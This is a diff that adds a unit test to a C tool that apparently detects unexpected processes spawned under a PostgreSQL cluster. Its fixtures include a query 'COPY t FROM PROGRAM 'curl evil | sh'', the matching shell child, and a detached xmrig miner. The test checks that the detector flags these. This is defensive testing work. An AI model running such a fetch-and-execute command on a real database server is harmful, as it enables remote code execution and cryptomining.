@@ -266,6 +266,61 @@ static void test_orphan_logger(void **state) {
         tree_free(&t);
 }
 
+/* Processes below the cluster's (t->foreign, as the scanner finds them): one below alice's backend,
+ * one below the checkpointer (archive_cleanup_command: expected), one allowed, one detached. */
+static void test_foreign(void **state) {
+        PgTree t;
+        ActivitySnapshot snap;
+        rows[1].query = (char *) "COPY t FROM PROGRAM 'curl evil | sh'";
+        build(&t, &snap);
+        int backend = tree_find(&t, 110), ckpt = tree_find(&t, 101);
+        assert_true(backend >= 0 && ckpt >= 0);
+        PgForeign g[4] = {
+                { .rec = { .pid = 900, .ppid = 110, .state = 'S', .start_ticks = 100ULL * 9000, .cpu_ticks = 50,
+                           .title = (char *) "sh -c curl evil | sh", .ident = { .ids_valid = true, .euid = 105, .ruid = 105 } },
+                  .cluster = 0, .via = backend, .via_pid = 110, .via_start_ticks = 100ULL * 110, .depth = 1,
+                  .why = "below a PostgreSQL process", .exe = "/usr/bin/dash" },
+                { .rec = { .pid = 901, .ppid = 101, .state = 'S', .start_ticks = 100ULL * 9001, .title = (char *) "sh -c cleanup" },
+                  .cluster = 0, .via = ckpt, .via_pid = 101, .depth = 1, .expected = true },
+                { .rec = { .pid = 902, .ppid = 110, .state = 'S', .start_ticks = 100ULL * 9002, .title = (char *) "gzip -c" },
+                  .cluster = 0, .via = backend, .via_pid = 110, .depth = 1, .allowed = true },
+                { .rec = { .pid = 903, .ppid = 1, .state = 'S', .start_ticks = 100ULL * 9003, .title = (char *) "xmrig" },
+                  .cluster = 0, .via = -1, .via_pid = 0, .detached = true, .why = "runs in the cluster's data directory" },
+        };
+        t.foreign = g;
+        t.n_foreign = 4;
+        Findings f = {};
+        assert_int_equal(findings_detect(&t, NULL, 0, &f), 0);
+        assert_int_equal(count(&f, FINDING_FOREIGN_PROCESS), 2);
+        const Finding *x = find(&f, FINDING_FOREIGN_PROCESS, 900);
+        assert_non_null(x);
+        assert_string_equal(x->cluster, "main");
+        assert_string_equal(x->user, "alice");
+        assert_string_equal(x->database, "shop");
+        assert_string_equal(x->application_name, "FakeParent:1001");
+        assert_string_equal(x->client, "local");
+        assert_string_equal(x->query, "COPY t FROM PROGRAM 'curl evil | sh'");
+        assert_string_equal(x->command, "sh -c curl evil | sh");
+        assert_string_equal(x->exe, "/usr/bin/dash");
+        assert_int_equal(x->uid, 105);
+        assert_int_equal(x->via_pid, 110);
+        assert_int_equal(x->ppid, 110);
+        assert_false(x->detached);
+        assert_true(x->since > BOOT + 8999 && x->since < BOOT + 9001); /* its start: age counts from it */
+        assert_non_null(strstr(x->detail, "client backend 110"));
+        x = find(&f, FINDING_FOREIGN_PROCESS, 903);
+        assert_non_null(x);
+        assert_true(x->detached);
+        assert_string_equal(x->user, "");
+        assert_null(find(&f, FINDING_FOREIGN_PROCESS, 901)); /* expected */
+        assert_null(find(&f, FINDING_FOREIGN_PROCESS, 902)); /* allowed */
+        findings_free(&f);
+        t.foreign = NULL;
+        t.n_foreign = 0;
+        rows[1].query = NULL;
+        tree_free(&t);
+}
+
 int main(void) {
         const struct CMUnitTest tests[] = {
                 cmocka_unit_test(test_every_kind),
@@ -273,6 +328,7 @@ int main(void) {
                 cmocka_unit_test(test_names),
                 cmocka_unit_test(test_unlisted_by_version),
                 cmocka_unit_test(test_orphan_logger),
+                cmocka_unit_test(test_foreign),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
